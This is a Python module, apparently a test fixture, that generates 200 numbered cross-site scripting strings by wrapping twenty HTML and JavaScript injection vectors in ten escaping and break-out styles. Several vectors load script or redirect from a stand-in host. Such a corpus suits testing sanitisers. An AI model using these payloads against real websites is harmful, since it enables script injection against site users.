"""Two hundred hostile strings: twenty ways to run or to ask something, each dressed in ten ways and numbered."""

from collections.abc import Callable, Sequence
from html import escape
from urllib.parse import quote

HOST = "h.example"
_WAYS: Sequence[str] = (
    "<script>window.ran=1</script>",
    "<script src=//h.example/a></script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=//h.example/b>",
    "<svg onload=window.ran=1>",
    "<svg><use href=//h.example/c#d>",
    "<iframe src=//h.example/e>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<a href=javascript:window.ran=1>x</a>",
    "<a href=//h.example/f ping=//h.example/g>x",
    "<object data=//h.example/h>",
    "<embed src=//h.example/i>",
    "<link rel=stylesheet href=//h.example/j>",
    "<style>@import'//h.example/k'</style>",
    "<meta http-equiv=refresh content=0;url=//h.example/l>",
    "<base href=//h.example/m>",
    "<form action=//h.example/n><button autofocus onfocus=ran=1>",
    "<video src=//h.example/o onerror=ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<math><mi xlink:href=javascript:ran=1>x",
)
_DRESSES: Sequence[Callable[[str], str]] = (
    lambda way: way,
    lambda way: f'">{way}',
    lambda way: f"'>{way}",
    lambda way: f"</textarea></p>{way}",
    lambda way: f"<!--{way}-->",
    lambda way: way.swapcase(),
    lambda way: f"]]>{way}",
    escape,
    quote,
    lambda way: f"\u202e{way}",
)
STRINGS = tuple(
    f"{number}{dress(way)}"
    for number, (dress, way) in enumerate(((dress, way) for way in _WAYS for dress in _DRESSES), start=1)
)


def batches(size: int) -> list[str]:
    """Return them as messages of ``size`` lines."""
    return ["\n".join(STRINGS[at : at + size]) for at in range(0, len(STRINGS), size)]
